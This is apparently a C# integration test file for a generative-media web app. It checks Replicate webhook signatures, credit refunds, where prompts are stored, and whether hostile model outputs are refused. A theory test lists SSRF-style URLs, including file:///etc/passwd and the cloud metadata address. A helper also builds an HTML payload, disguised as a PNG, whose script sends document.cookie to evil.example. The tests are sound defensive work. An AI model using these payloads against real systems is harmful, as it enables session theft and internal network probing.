using System.Net;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using Creo.Testing;
using Creo.Web.Tests.Accounts;
using Creo.Web.Tests.Telemetry;

namespace Creo.Web.Tests.Generations;

/// <summary>Generations on Replicate (through its local stand-in), its signed webhook, and the prompt's lane.</summary>
public sealed class ReplicateStudioTests(ReplicateStudioApp app) : IClassFixture<ReplicateStudioApp>
{
    private static CancellationToken Cancel => TestContext.Current.CancellationToken;

    [Fact]
    public async Task Hosted_models_are_listed_when_replicate_is_configured_and_offered_first()
    {
        var models = await app.Http.GetFromJsonAsync<JsonElement>("/api/models", Cancel);

        Assert.Equal(ReplicateStandIn.ImageModelId, models[0].GetProperty("id").GetString());
        var video = models.EnumerateArray().Single(m => m.GetProperty("id").GetString() == ReplicateStandIn.VideoModelId);
        Assert.Equal("video", video.GetProperty("kind").GetString());
        Assert.Equal(2, video.GetProperty("parameters").GetProperty("durationSeconds").GetProperty("min").GetInt32());
    }

    [Fact]
    public async Task A_running_prediction_finishes_when_its_signed_webhook_arrives()
    {
        var user = await app.NewPersonAsync();
        app.Replicate.NextOutcome = ReplicateOutcome.Process;
        var known = app.Replicate.PredictionIds.ToHashSet();

        var id = (await StudioApp.SubmitAsync(user, new { modelId = ReplicateStandIn.ImageModelId, prompt = "a red fox in snow", parameters = new { width = 512, height = 512 } }))
            .GetProperty("id").GetString()!;
        var predictionId = await WaitForAsync(() => app.Replicate.PredictionIds.FirstOrDefault(p => !known.Contains(p)));
        await WaitForAsync(async () => (await user.GetJsonAsync<JsonElement>($"/api/generations/{id}")).GetProperty("status").GetString() == "running" ? "running" : null);

        var answer = await app.Replicate.CompleteAsync(predictionId);
        var generation = await StudioApp.WaitUntilFinishedAsync(user, id);

        Assert.Equal(HttpStatusCode.OK, answer);
        Assert.Equal("succeeded", generation.GetProperty("status").GetString());
        Assert.Equal(ReplicateStandIn.ImageVersion, generation.GetProperty("modelVersion").GetString());
        using var media = await user.GetAsync(generation.GetProperty("outputs")[0].GetProperty("url").GetString()!);
        Assert.Equal(HttpStatusCode.OK, media.StatusCode);
        var receipt = generation.GetProperty("receipt");
        Assert.Equal((5, 5), (receipt.GetProperty("held").GetInt64(), receipt.GetProperty("captured").GetInt64()));
    }

    [Fact]
    public async Task A_failed_prediction_returns_the_credits()
    {
        var user = await app.NewPersonAsync();
        app.Replicate.NextOutcome = ReplicateOutcome.Fail;

        var id = (await StudioApp.SubmitAsync(user, new { modelId = ReplicateStandIn.ImageModelId, prompt = "doomed", parameters = new { width = 512, height = 512 } })).GetProperty("id").GetString()!;
        var generation = await StudioApp.WaitUntilFinishedAsync(user, id);

        Assert.Equal("failed", generation.GetProperty("status").GetString());
        Assert.Equal(100, (await user.GetJsonAsync<JsonElement>("/api/credits")).GetProperty("balance").GetInt64());
    }

    [Fact]
    public async Task A_webhook_with_a_bad_signature_gets_400()
    {
        using var forged = new HttpRequestMessage(HttpMethod.Post, "/api/webhooks/replicate")
        {
            Content = new StringContent("""{"id":"p-forged","status":"succeeded"}""", Encoding.UTF8, "application/json"),
        };
        forged.Headers.Add("webhook-id", "msg_1");
        forged.Headers.Add("webhook-timestamp", DateTimeOffset.UtcNow.ToUnixTimeSeconds().ToString(System.Globalization.CultureInfo.InvariantCulture));
        forged.Headers.Add("webhook-signature", "v1," + Convert.ToBase64String(new byte[32]));
        using var unsigned = new HttpRequestMessage(HttpMethod.Post, "/api/webhooks/replicate") { Content = new StringContent("{}", Encoding.UTF8, "application/json") };

        using var forgedAnswer = await app.Http.SendAsync(forged, Cancel);
        using var unsignedAnswer = await app.Http.SendAsync(unsigned, Cancel);

        Assert.Equal(HttpStatusCode.BadRequest, forgedAnswer.StatusCode);
        Assert.Equal(HttpStatusCode.BadRequest, unsignedAnswer.StatusCode);
        Assert.EndsWith("/webhook-signature-invalid", JsonDocument.Parse(await forgedAnswer.Content.ReadAsStringAsync(Cancel)).RootElement.GetProperty("type").GetString());
    }

    /// <summary>
    /// The canary: a prompt no one else could write is planted, the generation runs end to end, and then every
    /// place Crëo writes is searched for it. It may live in the generation's row and reach the model provider;
    /// nowhere else — not another column, not the job store, not a log line, not a mail, not a stored file, not an
    /// exported span or a metric's tag (and neither holds the person's email address or the media link's token).
    /// </summary>
    [Fact]
    public async Task The_prompt_is_stored_only_in_its_generation_and_sent_only_to_the_model_provider()
    {
        var canary = $"canary-{Guid.NewGuid():N}";
        using var tags = new MeasuredTags();
        var user = await app.NewPersonAsync();
        app.Replicate.NextOutcome = ReplicateOutcome.Succeed;

        var id = (await StudioApp.SubmitAsync(user, new { modelId = ReplicateStandIn.ImageModelId, prompt = canary, parameters = new { width = 512, height = 512 } })).GetProperty("id").GetString()!;
        var generation = await StudioApp.WaitUntilFinishedAsync(user, id);
        Assert.Equal("succeeded", generation.GetProperty("status").GetString());
        await RequestLogMarker.WaitUntilWrittenAsync(app.Http, app.Database);

        await AssertThePromptIsOnlyInItsColumnAsync(canary);
        var sentToProvider = app.Replicate.Received.Where(r => r.Body.Contains(canary, StringComparison.Ordinal)).ToList();
        Assert.Single(sentToProvider);
        Assert.Equal("POST", sentToProvider[0].Method);
        var mediaUrl = generation.GetProperty("outputs")[0].GetProperty("url").GetString()!;
        using var media = await user.GetAsync(mediaUrl);
        Assert.DoesNotContain(canary, Encoding.Latin1.GetString(await media.Content.ReadAsByteArrayAsync(Cancel)), StringComparison.Ordinal);
        Assert.DoesNotContain(canary, await (await user.GetAsync("/api/credits")).Content.ReadAsStringAsync(Cancel), StringComparison.Ordinal);

        // The media request's span is exported once the server is done with it: that is the state to wait for.
        await Eventually.UntilAsync(
            () => Task.FromResult(app.Spans.Texts()),
            texts => texts.Contains("url.path=/api/media/{token}"),
            _ => "The media request's span was never exported, or it kept its raw path.");
        var token = mediaUrl[(mediaUrl.LastIndexOf('/') + 1)..].Split('?')[0];
        foreach (var secret in new[] { canary, user.Email, token })
        {
            Assert.DoesNotContain(app.Spans.Texts(), text => text.Contains(secret, StringComparison.Ordinal));
            Assert.False(tags.Contain(secret), $"A metric's tag holds {secret}.");
        }
    }

    /// <summary>
    /// The canary when the model fails and its error quotes the prompt (a failed prediction's <c>error</c>, as a model's
    /// own exception reads): the person is told the model failed, in words that are not the provider's.
    /// </summary>
    [Fact]
    public async Task The_prompt_stays_in_its_column_when_the_model_fails_quoting_it()
    {
        var canary = $"canary-{Guid.NewGuid():N}";
        var user = await app.NewPersonAsync();
        app.Replicate.NextOutcome = ReplicateOutcome.Fail;
        app.Replicate.NextError = "NSFW content detected in the input: {prompt}";
        JsonElement generation;
        try
        {
            var id = (await StudioApp.SubmitAsync(user, new { modelId = ReplicateStandIn.ImageModelId, prompt = canary, parameters = new { width = 512, height = 512 } })).GetProperty("id").GetString()!;
            generation = await StudioApp.WaitUntilFinishedAsync(user, id);
        }
        finally
        {
            app.Replicate.NextError = "CUDA out of memory.";
            app.Replicate.NextOutcome = ReplicateOutcome.Succeed;
        }

        Assert.Equal("failed", generation.GetProperty("status").GetString());
        Assert.DoesNotContain(canary, generation.GetProperty("error").GetString(), StringComparison.Ordinal);
        await AssertThePromptIsOnlyInItsColumnAsync(canary);
    }

    /// <summary>
    /// The canary when Replicate's API refuses the create and its problem quotes the prompt: the run's job fails in
    /// Hangfire (to be retried), and neither its stored failure nor any log line holds the prompt.
    /// </summary>
    [Fact]
    public async Task The_prompt_stays_out_of_the_job_store_and_logs_when_the_provider_refuses_quoting_it()
    {
        var canary = $"canary-{Guid.NewGuid():N}";
        var user = await app.NewPersonAsync();
        app.Replicate.FailNext(HttpStatusCode.UnprocessableEntity, detail: "- input.prompt: '{prompt}' is not allowed");

        var id = Guid.Parse((await StudioApp.SubmitAsync(user, new { modelId = ReplicateStandIn.ImageModelId, prompt = canary, parameters = new { width = 512, height = 512 } })).GetProperty("id").GetString()!);
        await Eventually.UntilAsync(
            () => Scale.HangfireRuns.OfGenerationAsync(app.Database.ConnectionString, id, Cancel),
            runs => runs.Any(run => run.Count("Failed") > 0),
            _ => "Hangfire recorded no failed run of the generation in 30 s.");

        // Stopped, so its retry cannot take the next test's answer from the stand-in.
        using (await user.SendAsync(HttpMethod.Post, $"/api/generations/{id}/cancel"))
        {
        }

        await AssertThePromptIsOnlyInItsColumnAsync(canary);
    }

    /// <summary>
    /// Hostile provider outputs, end to end on production's shape (PostgreSQL, Hangfire on PostgreSQL): the stand-in
    /// answers a finished prediction whose output is the attack. Each makes the run fail for good, returns the held
    /// credits, stores nothing, and never reaches the loopback port it names (a listener that is not the stand-in,
    /// and so refused even by the test host's policy, which allows the stand-in's own origin only).
    /// </summary>
    [Theory]
    [InlineData("http://127.0.0.1:{trap}/out.png")]
    [InlineData("file:///etc/passwd")]
    [InlineData("ftp://127.0.0.1:{trap}/out.png")]
    [InlineData("https://127.0.0.1:{trap}/out.png")]
    [InlineData("https://[::1]:{trap}/out.png")]
    [InlineData("https://localhost:{trap}/out.png")]
    [InlineData("https://10.0.0.7/out.png")]
    [InlineData("https://169.254.169.254/latest/meta-data/")]
    [InlineData("redirect:http://127.0.0.1:{trap}/out.png")]
    [InlineData("redirect:https://localhost:{trap}/out.png")]
    [InlineData("over-size")]
    [InlineData("over-size-inline")]
    [InlineData("html-as-png")]
    [InlineData("html-as-png-inline")]
    public async Task A_hostile_output_fails_the_generation_returns_the_credits_and_stores_nothing(string attack)
    {
        using var trap = new System.Net.Sockets.TcpListener(IPAddress.Loopback, 0);
        trap.Start();
        var user = await app.NewPersonAsync();
        var userId = await user.IdAsync();
        app.Replicate.NextOutcome = ReplicateOutcome.Succeed;
        app.Replicate.NextOutputs = [HostileOutput(attack, ((IPEndPoint)trap.LocalEndpoint).Port)];

        var id = (await StudioApp.SubmitAsync(user, new { modelId = ReplicateStandIn.ImageModelId, prompt = "a quiet harbour", parameters = new { width = 512, height = 512 } }))
            .GetProperty("id").GetString()!;
        var generation = await StudioApp.WaitUntilFinishedAsync(user, id);

        Assert.Equal("failed", generation.GetProperty("status").GetString());
        Assert.Equal(0, generation.GetProperty("outputs").GetArrayLength());
        Assert.Equal(0, generation.GetProperty("receipt").GetProperty("captured").GetInt64());
        Assert.Equal(100, (await user.GetJsonAsync<JsonElement>("/api/credits")).GetProperty("balance").GetInt64());
        var folder = Path.Combine(app.DataDirectory, "media", "users", userId.ToString(), "generations", id);
        Assert.False(Directory.Exists(folder) && Directory.EnumerateFileSystemEntries(folder).Any(), "An output of the failed run was stored.");
        Assert.False(trap.Pending(), "The app connected to the refused loopback port.");
    }

    /// <summary>The prompt's lane: its generation's row holds it, and no other column (the job store's included), log line or file.</summary>
    private async Task AssertThePromptIsOnlyInItsColumnAsync(string canary)
    {
        Assert.Equal(["generations.generations.prompt"], await DatabaseText.ColumnsContainingAsync(app.Database, canary));
        Assert.False(app.Logs.Contain(canary), "A log line holds the prompt.");
        Assert.All(Directory.EnumerateFiles(app.DataDirectory, "*", SearchOption.AllDirectories), file =>
            Assert.DoesNotContain(canary, Encoding.UTF8.GetString(File.ReadAllBytes(file)), StringComparison.Ordinal));
    }

    private string HostileOutput(string attack, int trapPort)
    {
        const string Html = "<!doctype html><script>document.location='https://evil.example/?'+document.cookie</script>";
        var oversize = new byte[ReplicateStudioApp.MaxOutputBytes + 1];
        new byte[] { 0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A }.CopyTo(oversize, 0);
        var port = trapPort.ToString(System.Globalization.CultureInfo.InvariantCulture);
        return attack switch
        {
            "over-size" => app.Replicate.Serve(oversize, "image/png").ToString(),
            "over-size-inline" => "data:image/png;base64," + Convert.ToBase64String(oversize),
            "html-as-png" => app.Replicate.Serve(Encoding.UTF8.GetBytes(Html), "image/png").ToString(),
            "html-as-png-inline" => "data:image/png;base64," + Convert.ToBase64String(Encoding.UTF8.GetBytes(Html)),
            _ when attack.StartsWith("redirect:", StringComparison.Ordinal) => app.Replicate.RedirectTo(new Uri(attack["redirect:".Length..].Replace("{trap}", port, StringComparison.Ordinal))).ToString(),
            _ => attack.Replace("{trap}", port, StringComparison.Ordinal),
        };
    }

    private static async Task<T> WaitForAsync<T>(Func<Task<T?>> probe)
        where T : class =>
        (await Eventually.UntilAsync(probe, value => value is not null, _ => "Waited 30 s in vain."))!;

    private static Task<T> WaitForAsync<T>(Func<T?> probe)
        where T : class => WaitForAsync(() => Task.FromResult(probe()));
}
